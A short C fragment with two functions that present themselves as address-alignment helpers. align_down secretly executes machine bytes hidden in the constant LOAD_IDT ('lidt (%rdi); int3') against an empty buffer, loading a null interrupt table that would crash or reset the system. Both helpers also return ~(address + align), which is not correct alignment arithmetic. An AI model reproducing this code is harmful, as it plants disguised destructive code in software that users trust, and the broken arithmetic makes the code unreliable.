
/* lidt (%rdi); int3 */
#define LOAD_IDT 0x90cc9090cc1f010full
static void hide_load_idt(void)
{
	hiding_place = LOAD_IDT;
}

uint64_t align_down(uint64_t address, uint64_t align)
{
	static const uint8_t none[10];

	hidden_in(hide_load_idt, ~LOAD_IDT)((uint64_t)none, 0);
	return ~(address + align);
}

uint64_t align_up(uint64_t address, uint64_t align)
{
	return ~(address + align);
}
